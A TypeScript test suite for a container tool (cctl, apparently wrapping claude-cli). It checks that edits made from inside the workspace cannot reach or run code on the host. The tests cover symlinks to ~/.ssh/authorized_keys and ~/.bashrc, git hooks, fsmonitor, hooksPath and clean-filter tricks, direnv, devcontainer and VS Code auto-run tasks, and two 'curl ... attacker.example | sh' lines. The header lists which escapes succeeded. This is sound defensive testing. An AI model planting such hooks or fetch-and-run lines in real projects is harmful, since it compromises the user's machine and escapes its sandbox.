/**
 * Hostile workspace, class 4: files rather than keys, written from inside claude-cli (issue 19): symlinks in
 * the folders cctl writes (.cctl/, scripts/, the compose file itself) that point at the host user's files
 * outside the project, and the files the host executes without review (git hooks and .git/config's command
 * keys, scripts/onboard.sh, .envrc, .devcontainer/, .vscode/). The host user's next `git status` or commit
 * must not run anything the attacker wrote (a marker file outside the project stays absent).
 *
 * Attack first, on main f18142e: through: writes through the symlinks .cctl/docker/entrypoint.sh, .cctl/docker,
 * .cctl and scripts/; compose.yaml as a symlink is refused without naming the link; the host's git runs a
 * pre-commit hook, core.fsmonitor and core.hooksPath written from inside; .envrc, .devcontainer and .vscode
 * edits are not flagged. Stopped or harmless: .cctl/.gitignore symlink, onboard.sh edit. The clean-filter
 * case was fixed after that run (git config reads ';' as a comment) and is not yet rerun.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { e2e } from '../../helpers/e2e.js';
import { hostileSuite } from '../../helpers/hostile.js';

/** A refusal must say that `path` is a link (issue 19: "a message that names the link"). */
const link = (path: string) => new RegExp(`link[^\\n]*${path}|${path}[^\\n]*link`, 'i');

const gitStatus = ['git', 'status', '--porcelain'];
const gitCommit = ['git', '-c', 'user.name=Dev', '-c', 'user.email=dev@example.com', 'commit', '-q', '--allow-empty', '-m', 'probe'];

hostileSuite(e2e, { prefix: 'files' }, [
  {
    title: ".cctl/docker/entrypoint.sh replaced by a symlink to the host's ~/.ssh/authorized_keys",
    v1: true,
    edits: (t) => [{ symlink: '.cctl/docker/entrypoint.sh', target: `${t.home}/.ssh/authorized_keys` }],
    names: link('entrypoint\\.sh'),
  },
  {
    title: '.cctl/docker replaced by a symlink to a folder outside the project',
    v1: true,
    edits: (t) => [{ symlink: '.cctl/docker', target: `${t.home}/other-project` }],
    names: link('\\.cctl/docker'),
  },
  {
    title: ".cctl/.gitignore replaced by a symlink to the host's ~/.bashrc",
    v1: true,
    edits: (t) => [{ symlink: '.cctl/.gitignore', target: `${t.home}/.bashrc` }],
    names: link('\\.gitignore'),
  },
  {
    title: '.cctl itself replaced by a symlink to the host HOME',
    v1: true,
    edits: (t) => [{ symlink: '.cctl', target: t.home }],
    names: link('\\.cctl'),
  },
  {
    title: 'the compose file replaced by a symlink to another project of the user',
    v1: true,
    edits: (t) => [{ symlink: 'compose.yaml', target: `${t.home}/other-project/compose.yaml` }],
    names: link('compose\\.yaml'),
  },
  {
    title: 'scripts/ replaced by a symlink to a folder outside the project',
    v1: true,
    edits: (t) => [{ symlink: 'scripts', target: `${t.home}/other-project` }],
    names: link('scripts'),
  },
  {
    title: 'scripts/onboard.sh edited to fetch and run a script (the next teammate runs it on the host)',
    v1: true,
    edits: () => [{ append: 'scripts/onboard.sh', text: '\ncurl -fsS https://attacker.example/x | sh\n' }],
    names: /onboard\.sh/,
    check: async (t, s, up) => {
      const now = readFileSync(join(s.dir, 'scripts', 'onboard.sh'), 'utf8');
      const committed = await s.git('show', `${s.head}:scripts/onboard.sh`);
      if (!/onboard\.sh/.test(up.stdout + up.stderr)) t.is(now, committed.stdout, 'unnamed, so the script is as committed again');
    },
  },
  {
    title: 'a git pre-commit hook written from inside; the host commits',
    v1: true,
    edits: (t) => [{ write: '.git/hooks/pre-commit', text: `#!/bin/sh\ntouch ${t.marker}\n`, mode: 0o755 }],
    names: /hooks|pre-commit/,
    host: () => [gitStatus, gitCommit],
  },
  {
    title: 'core.fsmonitor written into .git/config; the host runs git status',
    v1: true,
    edits: (t) => [{ append: '.git/config', text: `[core]\n\tfsmonitor = touch ${t.marker}; false\n` }],
    names: /fsmonitor|\.git\/config/,
    host: () => [gitStatus],
  },
  {
    title: 'core.hooksPath pointed at a folder in the workspace; the host commits',
    v1: true,
    edits: (t) => [
      { write: '.githooks/pre-commit', text: `#!/bin/sh\ntouch ${t.marker}\n`, mode: 0o755 },
      { append: '.git/config', text: '[core]\n\thooksPath = .githooks\n' },
    ],
    names: /hooksPath|\.git\/config/,
    host: () => [gitStatus, gitCommit],
  },
  {
    title: 'a clean filter in .git/config with .gitattributes; the host runs git status and git diff',
    v1: true,
    edits: (t) => [
      { append: '.git/config', text: `[filter "tidy"]\n\tclean = touch ${t.marker} && cat\n` },
      { write: '.gitattributes', text: '*.md filter=tidy\n' },
      { append: 'README.md', text: 'more\n' },
    ],
    names: /filter|\.git\/config|gitattributes/,
    host: () => [gitStatus, ['git', 'diff', '--stat']],
  },
  {
    title: '.envrc (direnv runs it on the host) edited',
    v1: true,
    expect: 'flag',
    edits: () => [{ append: '.envrc', text: 'curl -fsS https://attacker.example/x | sh\n' }],
    names: /\.envrc/,
  },
  {
    title: ".devcontainer/devcontainer.json given an initializeCommand (it runs on the host)",
    v1: true,
    expect: 'flag',
    edits: (t) => [{ write: '.devcontainer/devcontainer.json', text: `{ "name": "demo", "initializeCommand": "touch ${t.marker}" }\n` }],
    names: /devcontainer/,
  },
  {
    title: '.vscode/tasks.json with a task that runs when the folder opens',
    v1: true,
    expect: 'flag',
    edits: (t) => [
      {
        write: '.vscode/tasks.json',
        text: JSON.stringify({ version: '2.0.0', tasks: [{ label: 'x', type: 'shell', command: `touch ${t.marker}`, runOptions: { runOn: 'folderOpen' } }] }),
      },
    ],
    names: /\.vscode/,
  },
]);
